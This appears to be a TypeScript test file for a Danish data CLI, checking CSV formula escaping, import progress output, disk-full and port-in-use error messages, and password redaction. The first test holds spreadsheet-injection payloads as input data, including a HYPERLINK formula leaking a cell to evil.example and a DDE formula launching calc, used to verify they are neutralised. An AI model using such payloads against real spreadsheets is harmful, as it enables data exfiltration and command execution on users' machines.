import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { diskFullLocation, openDatabase } from '../../src/db/index.ts';
import { importProgress } from '../../src/cli/progress.ts';
import { formulaCells } from '../support/csv-formulas.ts';
import { ENGINES, freshTarget } from '../support/engines.ts';
import { cli } from './run-cli.ts';

const scratch = mkdtempSync(join(tmpdir(), 'potentiale-hardening-'));
const file = (name: string, text: string): string => {
  const path = join(scratch, name);
  writeFileSync(path, text);
  return path;
};

describe('potentiale dea --format csv', () => {
  it('neutralises ids and column names that a spreadsheet would run as formulas', async () => {
    const ids = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
      '+1+1',
      '@SUM(A1)',
      '-2+3',
      "=cmd|' /C calc'!A0",
    ];
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const data = file(
      'dea.csv',
      ['id;=x;@y', ...ids.map((id, i) => `${quote(id)};${i + 1};${(i % 2) + 1}`)].join('\n'),
    );
    const r = await cli([
      'dea',
      '--data',
      data,
      '--id',
      'id',
      '--inputs',
      '=x',
      '--outputs',
      '@y',
      '--slack',
    ]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`'=HYPERLINK(`);
    expect(formulaCells(r.stdout)).toEqual([]);
  });
});

describe('importProgress(effects) without a TTY', () => {
  it('writes a line when storing starts and at every further 10 % of a large file', () => {
    const lines: string[] = [];
    const progress = importProgress(
      {
        stdout: () => undefined,
        stderr: (s) => lines.push(s),
        env: {},
        cwd: '/',
        now: () => new Date(0),
        isTty: false,
      },
      false,
      () => 0,
    );
    for (const file of ['a.csv', 'b.csv'])
      for (let done = 2000; done <= 200_000; done += 2000) progress.storing(file, done, 200_000);
    expect(lines).toHaveLength(22);
    expect(lines.slice(0, 11)).toEqual(
      [1, 10, 20, 30, 40, 50, 60, 70, 80, 90, 100].map(
        (p) => `lagrer a.csv: ${p === 1 ? 1 : p} % (${p * 2000}/200000 værdier)\n`,
      ),
    );
    expect(lines[11]).toMatch(/^lagrer b\.csv: 1 %/);
  });
});

describe.each(ENGINES)('potentiale on %s with a full disk or a port in use', (engine) => {
  let db: string;
  let blocker: Server;
  let port: number;
  let where: RegExp;
  let drop: () => Promise<void>;
  beforeAll(async () => {
    const target = await freshTarget(engine, join(scratch, `full-${engine}`));
    drop = target.drop;
    db = target.kind === 'postgres' ? target.url : (target.dir as string);
    where =
      target.kind === 'postgres'
        ? /på PostgreSQL-serveren postgres:\/\//
        : new RegExp(`ved PGlite-mappen ${target.dir}`);
    // The engine itself raises PostgreSQL's disk_full (SQLSTATE 53100), as a full disk does,
    // as soon as the import writes its record.
    const open = await openDatabase(target);
    await open.exec(`
      CREATE FUNCTION simulate_full_disk() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        RAISE EXCEPTION 'could not extend file "base/5/16384": No space left on device'
          USING ERRCODE = 'disk_full';
      END $$;
      CREATE TRIGGER full_disk BEFORE INSERT ON imports
        FOR EACH ROW EXECUTE FUNCTION simulate_full_disk();`);
    await open.close();
    blocker = createServer();
    await new Promise<void>((resolve) => blocker.listen(0, '127.0.0.1', resolve));
    port = (blocker.address() as { port: number }).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => blocker?.close(resolve));
    await drop?.();
  });

  it('says "disken er fuld" in one Danish line naming where, exit 5', async () => {
    const tidy = file(
      `tidy-${engine}.csv`,
      'municipality_code;year;key_figure;value\n101;2020;tal-til-disken;1\n',
    );
    const r = await cli(['import', tidy, '--price-basis', 'current', '--db', db]);
    expect(r.code).toBe(5);
    expect(r.stderr).toMatch(/^fejl: disken er fuld /);
    expect(r.stderr).toMatch(where);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('serve says in Danish that the port is taken, names it and suggests --port, exit 2', async () => {
    const r = await cli(['serve', '--port', String(port), '--no-fetch', '--no-web', '--db', db]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(new RegExp(`^fejl: porten ${port} på 127\\.0\\.0\\.1 er optaget`));
    expect(r.stderr).toMatch(/--port \d+/);
    expect(r.stderr).not.toMatch(/uventet|EADDRINUSE/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    // The database was closed: the next command opens it (a PGlite folder is unlocked).
    expect((await cli(['db', 'status', '--db', db])).code).toBe(0);
  });
});

describe('diskFullLocation(error, target, freeBytes)', () => {
  const pglite = { kind: 'pglite', dir: '/data/potentiale' } as const;
  const postgres = { kind: 'postgres', url: 'postgres://u:hemmelig@db.example/p' } as const;
  const plenty = () => 10 * 1024 ** 3;
  const little = () => 12 * 1024 ** 2;

  it('knows a real ENOSPC from Node (writing to /dev/full), also as the cause of another error', () => {
    if (process.platform !== 'linux') return;
    let error: unknown;
    try {
      writeFileSync('/dev/full', 'x');
    } catch (e) {
      error = e;
    }
    expect((error as NodeJS.ErrnoException).code).toBe('ENOSPC');
    expect(diskFullLocation(error, pglite, plenty)).toBe(
      'ved PGlite-mappen /data/potentiale (10240 MB fri)',
    );
    expect(diskFullLocation(new Error('wrapped', { cause: error }), postgres, plenty)).toBe(
      'på PostgreSQL-serveren postgres://u:***@db.example/p',
    );
    const withPath = Object.assign(error as Error, { path: '/data/potentiale/base/5/16384' });
    expect(diskFullLocation(withPath, pglite, plenty)).toBe('ved /data/potentiale/base/5/16384');
  });

  it('knows PGlite’s file-system ENOSPC and PostgreSQL’s 53100, naming the database without its password', () => {
    const errno = { name: 'ErrnoError', errno: 51 };
    expect(diskFullLocation(errno, pglite, plenty)).toMatch(
      /^ved PGlite-mappen \/data\/potentiale/,
    );
    const sqlstate = Object.assign(new Error('could not extend file'), { code: '53100' });
    expect(diskFullLocation(sqlstate, postgres, plenty)).toBe(
      'på PostgreSQL-serveren postgres://u:***@db.example/p',
    );
  });

  it('takes any engine error on a PGlite folder with under 64 MB free as a full disk', () => {
    // What PGlite reported when its folder filled up during an import.
    const panic = Object.assign(new Error('cannot drop active portal ""'), {
      code: '24000',
      severity: 'PANIC',
    });
    expect(diskFullLocation(panic, pglite, little)).toBe(
      'ved PGlite-mappen /data/potentiale (12 MB fri)',
    );
    expect(diskFullLocation(panic, pglite, plenty)).toBeUndefined();
    expect(diskFullLocation(panic, postgres, little)).toBeUndefined();
    // Our own refusals are not the disk's fault, whatever the free space.
    expect(diskFullLocation(new Error('den bruges allerede'), pglite, little)).toBeUndefined();
  });
});
